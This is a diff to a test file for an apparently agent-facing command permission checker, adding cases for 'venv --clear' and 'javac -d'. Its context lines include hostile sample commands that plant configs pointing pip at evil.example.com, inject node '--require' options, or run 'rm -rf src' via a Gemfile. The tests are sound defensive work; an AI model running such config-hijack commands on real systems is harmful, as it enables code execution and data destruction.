@@ -4,7 +4,7 @@
 // are gitignored and untracked.
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { evalCalls } from '../helpers/cli';
 import { checkEval, makeWorkspace } from './workspace';
@@ -61,8 +61,8 @@ describe('fresh13cmd36: variables that point a tool at a planted configuration',
     ["printf 'script-shell=./scripts/cleanup.sh\\n' > v.npmrc", 'npm_config_userconfig=v.npmrc npm test'],
     ["printf 'node-options=--require ./src/p.js\\n' > g.npmrc", 'npm_config_globalconfig=g.npmrc npm test'],
     ["printf '[global]\\nindex-url = https://evil.example.com/simple\\n' > pip.conf", 'PIP_CONFIG_FILE=pip.conf pip install requests'],
-    ["printf 'system(\"rm -rf src\")\\n' > G2", 'BUNDLE_GEMFILE=G2 bundle exec rake'],
-    ["mkdir -p ch && printf '[build]\\nrustc-wrapper = \"/tmp/w\"\\n' > ch/config.toml", 'CARGO_HOME=ch cargo build'],
+    ['printf \'system("rm -rf src")\\n\' > G2', 'BUNDLE_GEMFILE=G2 bundle exec rake'],
+    ['mkdir -p ch && printf \'[build]\\nrustc-wrapper = "/tmp/w"\\n\' > ch/config.toml', 'CARGO_HOME=ch cargo build'],
     ["mkdir -p gh/init.d && printf 'x\\n' > gh/init.d/x.gradle", 'GRADLE_USER_HOME=gh gradle build'],
     ["printf 'output = tests/a.test.ts\\n' > .curlrc", 'CURL_HOME=. curl https://example.com'],
   ];
@@ -88,6 +88,29 @@ describe('fresh13cmd36: variables that point a tool at a planted configuration',
       ['BUNDLE_GEMFILE=Gemfile.rails7 bundle exec rake', 'allow'],
       ['ZIPOPT=-9 zip /tmp/x.zip README.md', 'allow'],
       ['NODE_ENV=test npm test', 'allow'],
+    ]);
+  });
+});
+
+// Whole-folder wipes by an option (`venv --clear DIR` empties DIR first) and compilers that write into a folder
+// (`javac -d build`: class files by package path, the folder itself is kept).
+describe('fresh13cmd36: --clear wipes a folder; javac -d writes into one', function () {
+  this.timeout(120_000);
+  let w: ReturnType<typeof makeWorkspace>;
+  before(() => {
+    w = makeWorkspace();
+    mkdirSync(join(w.ws, 'build'));
+  });
+  after(() => rmSync(w.root, { recursive: true, force: true }));
+
+  it('asks for venv --clear of a source folder, allows a new venv and javac -d into a build folder', () => {
+    checkEval(w, [
+      ['python3 -m venv --clear src', 'not-allow'],
+      ['virtualenv --clear src', 'not-allow'],
+      ['python3 -m venv .venv', 'allow'],
+      ['python3 -m venv --clear .venv', 'allow'],
+      ['javac -d build src/Main.java', 'allow'],
+      ['javac -d .env src/Main.java', 'deny'],
     ]);
   });
 });
